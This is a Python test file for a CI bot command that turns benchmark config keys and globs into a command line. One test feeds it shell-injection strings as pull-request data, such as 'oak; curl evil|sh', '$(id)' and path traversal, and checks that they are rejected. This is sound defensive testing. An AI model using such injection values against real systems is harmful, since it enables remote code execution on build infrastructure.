"""What is dispatched for `/unofficial`, and what is not."""

import pytest

from checks.commands.unofficial import Unofficial
from checks.policy import preset
from checks.policy_types import Sweeps
from checks.sweeps.unofficial import MOST_KEYS, Dispatch, dispatch

SWEEPS = preset("inferencex").sweeps
HEAD = "a" * 40
KNOWN = {
    "configs/nvidia-master.yaml": ("oak-fp8-b200-vllm", "oak-fp8-h200-vllm-mtp"),
    "configs/amd-master.yaml": ("oak-fp8-mi355x-sglang",),
}


def command(*keys: str, **more: object) -> str:
    found = dispatch(Unofficial(keys, **more), KNOWN, SWEEPS, HEAD, "n1")  # type: ignore[arg-type]
    return found.inputs["generate-cli-command"] if isinstance(found, Dispatch) else str(found)


def test_keys_and_globs_become_the_command_line_of_the_policy() -> None:
    assert command("oak-fp8-b200-vllm") == (
        "test-config --config-files configs/nvidia-master.yaml"
        " --config-keys oak-fp8-b200-vllm --no-evals"
    )
    assert command("*-vllm*", "oak-fp8-mi355x-sglang", concurrencies=(4, 8), evals=True) == (
        "test-config --config-files configs/nvidia-master.yaml configs/amd-master.yaml"
        " --config-keys oak-fp8-b200-vllm oak-fp8-h200-vllm-mtp oak-fp8-mi355x-sglang --conc 4 8"
    )


def test_the_run_measures_this_head_and_can_be_found_by_its_title() -> None:
    found = dispatch(Unofficial(("*",), fast=True), KNOWN, SWEEPS, HEAD, "n1")
    assert isinstance(found, Dispatch)
    assert found.workflow == "e2e-tests.yml"
    assert found.inputs["ref"] == HEAD
    assert found.inputs["agentx-fast"] == "true"
    assert found.inputs["test-name"].endswith(" [n1]")


@pytest.mark.parametrize(
    ("key", "answer"),
    [
        ("oak-fp8-b20-vllm", "No config key is like `oak-fp8-b20-vllm`; did you mean"),
        ("zzz", "No config key of this pull request is like `zzz`."),
    ],
)
def test_a_key_that_is_not_there_is_named(key: str, answer: str) -> None:
    assert command("oak-fp8-b200-vllm", key).startswith(answer)


def test_what_a_pull_request_calls_its_keys_never_reaches_a_command_line() -> None:
    known = {"configs/nvidia-master.yaml": ("oak; curl evil|sh", "$(id)")}
    for glob in ("oak*", "$*"):
        said = dispatch(Unofficial((glob,)), known, SWEEPS, HEAD, "n1")
        assert str(said).endswith("cannot be put on a command line.")
    for path in ("configs/$(id).yaml", "configs/../x.yaml", "-x.yaml", "/etc/x.yaml"):
        said = dispatch(Unofficial(("oak*",)), {path: ("oak-fp8-b200-vllm",)}, SWEEPS, HEAD, "n1")
        assert str(said) == "The name of a master config cannot be put on a command line."


def test_a_glob_that_means_everything_is_too_much() -> None:
    many = {"configs/nvidia-master.yaml": tuple(f"oak-{n}" for n in range(MOST_KEYS + 1))}
    said = dispatch(Unofficial(("oak-*",)), many, SWEEPS, HEAD, "n1")
    assert str(said) == "21 config keys match; at most 20 are measured at once."


def test_a_policy_without_a_workflow_measures_nothing_on_demand() -> None:
    said = dispatch(Unofficial(("*",)), KNOWN, Sweeps(), HEAD, "n1")
    assert str(said).startswith("The policy of this repository names no workflow")
